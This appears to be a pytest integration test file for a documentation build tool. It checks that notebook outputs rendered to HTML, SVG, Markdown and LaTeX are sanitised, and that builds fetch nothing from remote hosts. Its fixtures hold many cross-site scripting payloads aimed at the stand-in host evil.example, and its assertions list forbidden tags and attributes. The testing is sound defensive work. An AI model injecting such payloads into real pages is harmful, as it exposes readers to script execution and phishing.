"""What a cell gives out, or what Sphinx is asked to fetch, attacks no reader of a page.

`tests/rendering/outputs` tests each form by itself, `tests/browser/test_outputs.py` looks at them in a browser.
"""

import re
from pathlib import Path
from typing import Any

import pytest

from d2lbuild.model import CellKind, Output
from d2lbuild.rendering.context import RenderContext
from d2lbuild.rendering.page import Page
from d2lbuild.rendering.sources.page_notebook import Prose
from d2lbuild.rendering.website.html import render
from tests.hard_use.conftest import Machine
from tests.rendering.outputs.test_hostile import Seen
from tests.rendering.pages import PYTORCH, PageBuilder, as_myst, make_book, make_config

pytestmark = pytest.mark.integration

EVIL = "evil.example"
HTML = f"""
<script>EVIL()</script><script src="//{EVIL}/x.js"></script>
<img src=x onerror="EVIL()"><img src="//{EVIL}/x.png"><svg onload="EVIL()"><script>EVIL()</script></svg>
<a href="javascript:EVIL()">a</a><a href="JaVaScRiPt:EVIL()">b</a><a href="&#106;avascript:EVIL()">c</a>
<a href="data:text/html,<script>EVIL()</script>">d</a><a href=" javascript:EVIL()">e</a>
<a href="java\nscript:EVIL()">f</a>
<meta http-equiv="refresh" content="0;url=//{EVIL}"><base href="//{EVIL}"><link rel=stylesheet href="//{EVIL}/x.css">
<iframe src="//{EVIL}"></iframe><iframe srcdoc="<script>EVIL()</script>"></iframe>
<object data="//{EVIL}"></object><embed src="//{EVIL}"><applet code="//{EVIL}"></applet>
<form action="//{EVIL}"><input name=password><button formaction="javascript:EVIL()">x</button></form>
<style>body {{ display: none }} @import "//{EVIL}"; p {{ background: url(//{EVIL}) }} * {{ position: fixed }}</style>
<p style="background: url(//{EVIL}); position: fixed; inset: 0; z-index: 9">over all</p>
<p id="search" class="sd-tab furo" onclick="EVIL()" onmouseover=EVIL() data-x="y">names</p>
<video src="//{EVIL}" poster="//{EVIL}" onplay="EVIL()"></video><img srcset="//{EVIL} 2x"><audio src="//{EVIL}"></audio>
<math><maction actiontype="statusline" xlink:href="javascript:EVIL()">m</maction></math>
<noscript><p title="</noscript><img src=x onerror=EVIL()>"></noscript>
<template><script>EVIL()</script></template><xmp><script>EVIL()</script></xmp><title><script>EVIL()</script></title>
<!--><img src=x onerror=EVIL()>--><![CDATA[<img src=x onerror=EVIL()>]]>
"""
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="EVIL()">
<script>EVIL()</script>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>EVIL()</script></body></foreignObject>
<image href="//{EVIL}/x.png"/><image xlink:href="http://{EVIL}/x.png"/><use href="//{EVIL}/x.svg#a"/>
<a xlink:href="javascript:EVIL()"><text>words</text></a>
<style>@import "//{EVIL}"; text {{ fill: url(//{EVIL}) }}</style>
<animate attributeName="href" to="javascript:EVIL()"/><set attributeName="onload" to="EVIL()"/>
<text style="fill: url(//{EVIL}#x)" onclick="EVIL()">more</text></svg>"""
MARKDOWN = f"""[a](javascript:EVIL()) [b](data:text/html,x) ![c](http://{EVIL}/x.png) <https://{EVIL}>

[d]: javascript:EVIL()

{HTML}

```{{raw}} html
<script>EVIL()</script>
```

{{eval-rst}}`x`
"""
LATEX = rf"$\href{{javascript:EVIL()}}{{x}}$ $\style{{background:url(//{EVIL})}}{{x}}$ <script>EVIL()</script>"


def data(kind: str, value: Any) -> Output:
    return {"output_type": "display_data", "data": {kind: value}, "metadata": {}}


def _as_myst(*_: object) -> Prose:
    return as_myst


def _page() -> Page:
    page = PageBuilder("index", ["pytorch"])
    page.prose("# Outputs")
    outputs = [data("text/html", line) for line in HTML.strip().split("\n")]
    outputs += [data("text/html", HTML), data("image/svg+xml", SVG), data("text/markdown", MARKDOWN)]
    outputs += [data("text/latex", LATEX), data("application/javascript", "EVIL()"), data("text/plain", HTML)]
    outputs += [{"output_type": "stream", "name": "stdout", "text": HTML}]
    outputs += [{"output_type": "error", "ename": HTML, "evalue": HTML, "traceback": [HTML]}]
    outputs += [
        {"output_type": "display_data", "data": {"image/svg+xml": SVG}, "metadata": {"alt": '"><script>EVIL()'}}
    ]
    for output in outputs:
        page.add(CellKind.CODE, "x", outputs=[output])
    return page.page()


def test_nothing_of_an_output_runs_loads_or_leads_astray(tmp_path: Path) -> None:
    (tmp_path / "chapters").mkdir()
    page = _page()
    context = RenderContext(
        make_config(tmp_path, [PYTORCH]), make_book(page), ("pytorch",), tmp_path / "_build" / "html"
    )
    render([page], context, _as_myst)
    text = (context.output / "index.html").read_text("utf-8")
    article = text[text.index("<article") : text.index("</article>")]
    seen = Seen(article)
    forbidden = {
        "script",
        "iframe",
        "object",
        "embed",
        "link",
        "base",
        "meta",
        "form",
        "input",
        "applet",
        "math",
        "svg",
    }
    assert not forbidden & seen.tags
    assert not [
        name for name, _ in seen.attributes if name.startswith("on") or name in {"srcdoc", "formaction", "poster"}
    ]
    loads = [value for name, value in seen.attributes if name in {"src", "srcset", "data"}]
    assert not [one for one in loads if not one.startswith(("data:image/", "_images/"))]
    links = [value for name, value in seen.attributes if name == "href"]
    assert not [one for one in links if not re.match(r"https?://|#|index\.html|_notebooks/|_sources/", one)], links
    assert "position" not in " ".join(value for name, value in seen.attributes if name == "style")
    assert "@import" not in seen.styles
    assert "url(" not in seen.styles
    drawings = [path.read_text("utf-8") for path in (context.output / "_images").glob("*.svg")]
    assert drawings
    for drawing in drawings:
        assert "EVIL" not in drawing
        assert EVIL not in drawing
        assert "foreignObject" not in drawing


REMOTE = f"""\
# One

![a](http://{EVIL}/a.png) ![b](//{EVIL}/b.png)

```eval_rst
.. image:: http://{EVIL}/c.png

.. figure:: https://{EVIL}/d.png

   Caption

.. raw:: html
   :url: http://{EVIL}/x.html

.. csv-table::
   :url: http://{EVIL}/x.csv
```
"""


@pytest.mark.parametrize("to", ["html", "epub", "slides"])
def test_neither_the_build_nor_a_reader_fetches_anything(
    machine: Machine, to: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fetched(*_: object, **__: object) -> None:
        raise AssertionError("the build asks another machine")

    monkeypatch.setattr("socket.create_connection", fetched)
    monkeypatch.setattr("socket.getaddrinfo", fetched)
    machine.write({"one.md": REMOTE})
    report = machine.build(to)
    assert not [one for one in report.findings if "fetch remote" in one.message]
    if to == "html":
        text = (machine.root / "_build" / "pytorch" / "html" / "one.html").read_text("utf-8")
        assert EVIL in text
        loads = [value for name, value in Seen(text).attributes if name in {"src", "srcset", "data", "poster"}]
        assert not [one for one in loads if EVIL in one]
        assert sum("lies elsewhere" in one.message for one in report.findings) >= 4


def test_what_authors_write_themselves_is_theirs(machine: Machine) -> None:
    """Raw HTML of a page is the author's, who is trusted with readers: it stays, and what it fetches is told."""
    raw = f"<script src='https://{EVIL}/x.js'></script>"
    machine.write({"one.md": "# One\n\n```eval_rst\n.. raw:: html\n   :file: own.html\n```\n", "own.html": raw})
    report = machine.build()
    assert EVIL in (machine.root / "_build" / "pytorch" / "html" / "one.html").read_text("utf-8")
    assert [one for one in report.findings if "makes the browsers of readers fetch" in one.message]
